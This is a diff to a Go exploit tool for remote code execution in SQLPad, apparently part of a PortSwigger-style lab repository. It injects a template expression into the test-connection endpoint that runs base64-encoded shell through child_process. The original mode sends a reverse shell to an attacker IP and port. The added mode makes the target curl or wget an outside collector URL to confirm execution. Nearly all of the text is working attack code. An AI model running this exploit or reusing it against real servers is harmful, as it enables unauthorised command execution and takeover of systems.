@@ -9,12 +9,19 @@ import (
 	"io"
 	"net/http"
 	"os"
+	"strings"
+	"time"
 )
 
 const (
 	contentType     = "application/json"
 	acceptType      = "application/json"
 	connectionRoute = "/api/test-connection"
+
+	// Routes of the OAST collector (PortSwiggerLabs/SQLi/lab_8/cmd/collector)
+	collectorProbeRoute        = "/_oast/probe"
+	collectorInteractionsRoute = "/_oast/interactions"
+	collectorTimeout           = 15 * time.Second
 )
 
 // DataPayload represents the data section of the JSON payload.
@@ -30,11 +37,34 @@ type ExploitPayload struct {
 	Database string      `json:"database"`
 }
 
+// CollectorProbe is a unique callback target registered with the OAST collector.
+type CollectorProbe struct {
+	Token string `json:"token"`
+	Host  string `json:"host"`
+	URL   string `json:"url"`
+}
+
+// CollectorInteraction is a callback recorded by the OAST collector.
+type CollectorInteraction struct {
+	Protocol   string `json:"protocol"`
+	RemoteAddr string `json:"remote_addr"`
+	Request    string `json:"request"`
+}
+
 func main() {
-	rootURL, attackerIP, attackerPort := parseArgs()
+	rootURL, attackerIP, attackerPort, collectorURL := parseArgs()
 
 	targetURL := buildTargetURL(rootURL)
 
+	if collectorURL != "" {
+		err := verifyWithCollector(targetURL, collectorURL)
+		if err != nil {
+			fmt.Printf("Error: %v\n", err)
+			os.Exit(1)
+		}
+		return
+	}
+
 	payload := buildPayload(attackerIP, attackerPort)
 
 	exploitPayload := createExploitPayload(payload)
@@ -48,19 +78,25 @@ func main() {
 	fmt.Printf("Exploit sent successfully. Check your listener on %s:%s\n", attackerIP, attackerPort)
 }
 
-func parseArgs() (string, string, string) {
+func parseArgs() (string, string, string, string) {
 	rootURL := flag.String("u", "", "Root URL of the SQLPad application")
 	attackerIP := flag.String("i", "", "Attacker IP")
 	attackerPort := flag.String("p", "", "Attacker Port")
+	collectorURL := flag.String("c", "", "OAST collector URL, verifies the RCE with a callback instead of a reverse shell")
 
 	flag.Parse()
 
-	if *rootURL == "" || *attackerIP == "" || *attackerPort == "" {
-		fmt.Println("All arguments (-u <root_url>, -i <attacker_ip>, -p <attacker_port>) must be provided.")
+	if *rootURL == "" {
+		fmt.Println("The root URL (-u <root_url>) must be provided.")
 		os.Exit(1)
 	}
 
-	return *rootURL, *attackerIP, *attackerPort
+	if *collectorURL == "" && (*attackerIP == "" || *attackerPort == "") {
+		fmt.Println("All arguments (-u <root_url>, -i <attacker_ip>, -p <attacker_port>) must be provided, or -c <collector_url> to only verify the vulnerability.")
+		os.Exit(1)
+	}
+
+	return *rootURL, *attackerIP, *attackerPort, *collectorURL
 }
 
 func buildTargetURL(rootURL string) string {
@@ -72,6 +108,12 @@ func buildPayload(attackerIP, attackerPort string) string {
 	return fmt.Sprintf(`{{ process.mainModule.require('child_process').exec('echo %s | base64 -d | bash') }}`, endodedData)
 }
 
+// buildCallbackPayload makes the server fetch the probe URL, proving command execution.
+func buildCallbackPayload(probeURL string) string {
+	endodedData := base64Encode(fmt.Sprintf("curl -s %s || wget -q -O- %s", probeURL, probeURL))
+	return fmt.Sprintf(`{{ process.mainModule.require('child_process').exec('echo %s | base64 -d | bash') }}`, endodedData)
+}
+
 func base64Encode(data string) string {
 	return base64.StdEncoding.EncodeToString([]byte(data))
 }
@@ -125,3 +167,52 @@ func sendExploit(targetURL string, exploitPayload ExploitPayload) error {
 
 	return nil
 }
+
+// verifyWithCollector registers a probe with the OAST collector, sends a payload
+// that calls back to it and waits for the callback to arrive.
+func verifyWithCollector(targetURL, collectorURL string) error {
+	collectorURL = strings.TrimSuffix(collectorURL, "/")
+
+	var probe CollectorProbe
+	err := getJSON(collectorURL+collectorProbeRoute, &probe)
+	if err != nil {
+		return fmt.Errorf("error registering probe: %w", err)
+	}
+	fmt.Printf("Registered probe %s (%s)\n", probe.Token, probe.URL)
+
+	err = sendExploit(targetURL, createExploitPayload(buildCallbackPayload(probe.URL)))
+	if err != nil {
+		return err
+	}
+
+	deadline := time.Now().Add(collectorTimeout)
+	for time.Now().Before(deadline) {
+		var interactions []CollectorInteraction
+		err := getJSON(collectorURL+collectorInteractionsRoute+"?token="+probe.Token, &interactions)
+		if err != nil {
+			return fmt.Errorf("error polling collector: %w", err)
+		}
+
+		if len(interactions) > 0 {
+			fmt.Printf("Target is vulnerable, callback received from %s: %s\n", interactions[0].RemoteAddr, interactions[0].Request)
+			return nil
+		}
+		time.Sleep(time.Second)
+	}
+
+	return fmt.Errorf("no callback received within %s, target does not appear to be vulnerable", collectorTimeout)
+}
+
+func getJSON(url string, target any) error {
+	resp, err := http.Get(url)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return fmt.Errorf("collector responded with status code: %d", resp.StatusCode)
+	}
+
+	return json.NewDecoder(resp.Body).Decode(target)
+}